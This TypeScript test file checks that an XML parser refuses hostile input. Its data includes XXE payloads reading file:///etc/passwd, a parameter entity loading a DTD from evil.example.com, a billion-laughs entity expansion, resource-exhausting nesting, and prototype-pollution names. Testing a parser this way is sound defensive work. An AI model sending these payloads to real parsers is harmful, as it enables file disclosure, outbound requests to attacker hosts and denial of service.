import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readXml } from "../../../src/live/soa/xml.ts";
import { damaged, differences, documents, misread } from "./xml-documents.ts";
import { eachNth } from "../../support/runs.ts";

const faultOf = (text: string): string => {
  const read = readXml(text);
  return "fault" in read ? read.fault : "";
};

describe("[F1] XML of a tier", () => {
  test("well-formed documents say to us what they say to libxml2", () => {
    expect(misread(fc.sample(documents, { numRuns: 150, seed: 1 }))).toEqual([]);
  });

  test("of damaged ones we read none that libxml2 refuses, and none in another way", () => {
    expect(differences(fc.sample(damaged, { numRuns: 300, seed: 2 }))).toEqual([]);
  });

  test.each(
    eachNth(3, [
      ['<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', "it has a document type"],
      ["<!doctype a><a/>", "it has a document type"],
      ['<?xml version="1.0"?><!-- x --><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "it has a document type"],
      [
        `<!DOCTYPE l [<!ENTITY a "x">${[..."bcdefghij"].map((one, i) => `<!ENTITY ${one} "${`&${"abcdefghi"[i]};`.repeat(10)}">`).join("")}]><l>&j;</l>`,
        "it has a document type",
      ],
      ['<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example.com/x.dtd">%x;]><a/>', "it has a document type"],
      ["<a><!ENTITY b 'c'></a>", "it has a document type"],
      ["<a>&b;</a>", "it is not well-formed XML (line 1: "],
      ["<a>\n<b>\n</a>", "it is not well-formed XML (line 3: "],
      ["<a>&#0;</a>", "it is not well-formed XML"],
      [`${"<a>".repeat(101)}${"</a>".repeat(101)}`, "its elements are nested deeper than 100"],
      ["<a>".repeat(300_000), "its elements are nested deeper than 100"],
      ["<a b='1' b='2'/>", "it is not well-formed XML"],
      ["", "it is not well-formed XML"],
    ]),
  )("%.60s is refused in words", (text, says) => {
    expect(faultOf(text)).toContain(says);
  });

  test("more than 16 million characters are not looked at", () => {
    expect(faultOf(`<a>${" ".repeat(17_000_000)}</a>`)).toContain("it has more than the 16777216 characters");
  });

  test.each(
    eachNth(6, [
      ["<!--".repeat(500_000), "it is not well-formed XML"],
      [`<a>${"<![CDATA[".repeat(300_000)}`, "it is not well-formed XML"],
      [`<!-- ${"<!-".repeat(500_000)}`, "it is not well-formed XML"],
      [`<a>${"<b/>".repeat(400_000)}</a>`, "it has more than 400000 tags"],
      [`<a ${"b ".repeat(500_000)}/>`, "it is not well-formed XML"],
      [`<a>${"&".repeat(1_000_000)}</a>`, "it is not well-formed XML"],
    ]),
  )("%.20s... of a million characters takes no longer than its length", (text, says) => {
    expect(faultOf(text)).toContain(says);
  });

  test("names of the language's own are data, or refused: nothing is polluted", () => {
    for (const name of ["__proto__", "constructor", "prototype", "hasOwnProperty", "toString"]) {
      readXml(`<a><${name} x="1"><y polluted="yes"/></${name}></a>`);
      readXml(`<a ${name}="polluted"/>`);
    }
    expect(Object.getOwnPropertyNames(Object.prototype).filter((name) => /polluted|^x$|^y$/.test(name))).toEqual([]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test("nothing that looks like a number or a word of another language is turned into one", () => {
    const read = readXml('<a version="2506.0" b="true">007<c>1e5</c><![CDATA[ <x>&amp; ]]></a>');
    if ("fault" in read) throw new Error(read.fault);
    expect(read.root.attributes.map(({ value }) => value)).toEqual(["2506.0", "true"]);
    expect([read.root.text, read.root.children[0]?.text]).toEqual(["007 <x>&amp; ", "1e5"]);
  });
});
